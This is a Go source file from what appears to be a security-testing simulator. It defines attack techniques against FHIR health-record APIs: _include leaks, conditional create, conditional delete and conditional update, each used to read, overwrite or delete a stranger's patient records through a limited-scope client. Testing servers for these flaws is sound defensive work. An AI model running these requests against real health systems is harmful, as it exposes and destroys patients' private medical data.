package attacker

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

var _ = register("F-07", Technique{
	Title: "A note on one's own patient that points at a stranger's record",
	Story: "The thief is a doctor whose app may write observations. He writes one about a patient of his own and says that it was made at a " +
		"stranger's visit. Then he searches for it, and asks for the visit to be brought along.",
	Reads:  []string{"FHIR R4 search, _include", "microsoft/fhir-server PR #5683"},
	Has:    []event.Asset{event.OwnClient},
	Beyond: beyondObjects,
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := observersToken(ctx, g)
		if err != nil {
			return err
		}
		note, err := a.observe(ctx, t, observation(g.Target().OwnPatient, "enc-"+stranger(g)+"-1"), "")
		if err != nil {
			return err
		}
		_, err = a.read(ctx, g.Target().FHIRBase+"/Observation?_id="+url.QueryEscape(note)+"&_include=Observation:encounter", t)
		return err
	},
})

var _ = register("F-20", Technique{
	Variant: "none-exist",
	Title:   "Create it unless there is one, and show me the one there is",
	Story: "The thief is a doctor whose app may write observations. He offers one about a patient of his own, to be stored unless there is one " +
		"already that fits a condition; the condition names a stranger's. The API stores nothing and answers with what it found.",
	Reads:  []string{"FHIR R4 http, conditional create", "OWASP API1:2023"},
	Has:    []event.Asset{event.OwnClient},
	Beyond: beyondObjects,
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := observersToken(ctx, g)
		if err != nil {
			return err
		}
		_, err = a.observe(ctx, t, observation(g.Target().OwnPatient, ""), "_id=obs-"+stranger(g)+"-1")
		return err
	},
})

var _ = register("F-20/delete", Technique{
	Variant: "delete-whichever-fits",
	Title:   "Delete whichever record fits a condition",
	Story: "The thief's app may read. He sends a deletion that names no record and gives a condition instead, which a stranger's diagnosis fits. An " +
		"API that asks about the record in the address finds none there to ask about.",
	Reads:    []string{"FHIR R4 http, conditional delete", "OWASP API5:2023"},
	Evidence: "A conditional deletion by a client whose scope holds none.",
	Has:      []event.Asset{event.OwnClient},
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		fits := g.Target().FHIRBase + "/Condition?_id=cond-" + stranger(g) + "-1"
		_, err = a.write(ctx, http.MethodDelete, fits, nil, t)
		return err
	},
})

var _ = register("F-20/update", Technique{
	Variant: "update-whichever-fits",
	Title:   "Write over whichever record fits a condition",
	Story: "The thief is a doctor whose app may write observations. He sends one to be put in place of whichever fits a condition, and the condition finds a " +
		"stranger's. The address names no record, so an API that asks about the one in the address has none to ask about.",
	Reads:    []string{"FHIR R4 http, conditional update", "OWASP API1:2023"},
	Evidence: "A conditional update that meets a record of somebody whom the caller does not treat.",
	Has:      []event.Asset{event.OwnClient},
	Beyond:   beyondWriting,
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := observersToken(ctx, g)
		if err != nil {
			return err
		}
		id := "obs-" + stranger(g) + "-1"
		_, err = a.write(ctx, http.MethodPut, g.Target().FHIRBase+"/Observation?_id="+id, result(g, id), t)
		return err
	},
})

// observersToken is the thief's own, for reading and for writing observations.
func observersToken(ctx context.Context, g Ground) (*app, fapi.TokenResponse, error) {
	a, err := ownApp(ctx, g)
	if err != nil {
		return nil, fapi.TokenResponse{}, err
	}
	t, err := a.signIn(ctx, "openid user/*.rs user/Observation.cu", g.Target().FHIRBase)
	return a, t, err
}

// observation is a correct one about a patient, made at a visit if one is named.
func observation(patient, visit string) []byte {
	o := map[string]any{
		"resourceType": "Observation", "status": "final",
		"code":    map[string]string{"text": "Note"},
		"subject": map[string]string{"reference": "Patient/" + patient},
	}
	if visit != "" {
		o["encounter"] = map[string]string{"reference": "Encounter/" + visit}
	}
	b, err := json.Marshal(o)
	if err != nil {
		panic("attacker: " + err.Error()) // strings always marshal
	}
	return b
}

// observe stores an observation, unless there is one that fits a condition, and returns the id of the one there is now.
func (a *app) observe(ctx context.Context, t fapi.TokenResponse, resource []byte, unless string) (string, error) {
	address := a.g.Target().FHIRBase + "/Observation"
	ans, err := a.withNonce(address, func() (*http.Request, error) {
		r, err := a.writing(ctx, http.MethodPost, address, resource, t)
		if err == nil && unless != "" {
			r.Header.Set("If-None-Exist", unless)
		}
		return r, err
	})
	if err != nil {
		return "", err
	}
	if !ans.ok() {
		return "", ErrStopped
	}
	var there struct {
		ID string `json:"id"`
	}
	if err := json.Unmarshal(ans.body, &there); err != nil {
		return "", fmt.Errorf("expected the observation, got %q: %w", ans.body, err)
	}
	return there.ID, nil
}
